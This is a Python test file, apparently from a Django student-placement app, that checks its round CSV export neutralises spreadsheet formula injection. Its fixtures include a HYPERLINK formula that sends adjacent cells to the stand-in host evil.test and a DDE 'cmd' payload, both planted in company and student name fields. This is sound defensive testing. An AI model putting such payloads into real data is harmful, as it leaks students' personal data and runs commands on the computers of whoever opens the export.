"""The round export is safe to open in a spreadsheet (issue 10, finding 3): a company, challenge
or student named like a formula arrives as text, next to the students' real names."""

import csv
import io

from django.urls import reverse

from backend.allocations.models import Assignment
from backend.allocations.selectors.review import assignments_csv
from tests.backend.allocations.conftest import to_review

HOSTILE_COMPANY = '=HYPERLINK("http://evil.test/?leak="&E2&F2,"klik")'


def _hostile_webshop_team(world) -> Assignment:
    """Bakkerij Jansen renamed to a formula; its webshop and the student placed there too."""
    to_review(world)
    world.cast.bakkerij.name = HOSTILE_COMPANY
    world.cast.bakkerij.save()
    world.webshop.title = "+Webshop"
    world.webshop.save()
    assignment = Assignment.objects.select_related("student__enrolment").get(
        round=world.round, offer=world.webshop
    )
    assignment.student.first_name = "@Sanne"
    assignment.student.last_name = "-1+cmd|' /C calc'!A0"
    assignment.student.save()
    enrolment = assignment.student.enrolment
    enrolment.class_code = "\tICT2A"
    enrolment.save()
    return assignment


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _expected_host_row(assignment: Assignment) -> list[str]:
    enrolment = assignment.student.enrolment
    return [
        "'" + HOSTILE_COMPANY,
        "'+Webshop",
        "'\tICT2A",
        enrolment.student_number,
        "'@Sanne",
        "'-1+cmd|' /C calc'!A0",
        enrolment.kwalificatie.title,
        str(enrolment.kwalificatie.niveau),
        str(assignment.rank),
        assignment.get_source_display(),
        "",  # reason not placed: empty for a placed student
    ]


def test_the_round_export_neutralises_formulas_in_every_cell(world):
    assignment = _hostile_webshop_team(world)
    rows = _rows(assignments_csv(world.round, by="host"))
    hostile = [row for row in rows if row[1] == "'+Webshop"]
    assert hostile == [_expected_host_row(assignment)]
    # Nothing in the file starts like a formula any more.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]
    # The other rows are untouched.
    # (The unassigned student's row has no company.)
    assert {row[0] for row in rows[1:]} == {"'" + HOSTILE_COMPANY, "Pixelfabriek", ""}


def test_the_round_export_api_neutralises_a_hostile_company_name(world, client_for):
    assignment = _hostile_webshop_team(world)
    response = client_for(world.cast.bos).get(
        reverse("api:round-export", args=[world.round.pk]) + "?by=host"
    )
    assert response.status_code == 200
    rows = _rows(response.content.decode())
    assert [row for row in rows if row[1] == "'+Webshop"] == [_expected_host_row(assignment)]


def test_the_round_export_page_neutralises_a_hostile_company_name(world, client):
    assignment = _hostile_webshop_team(world)
    client.force_login(world.cast.devries)
    response = client.get(reverse("frontend:round-export", args=[world.round.pk, "host"]))
    assert response.status_code == 200
    rows = _rows(response.content.decode())
    assert [row for row in rows if row[1] == "'+Webshop"] == [_expected_host_row(assignment)]
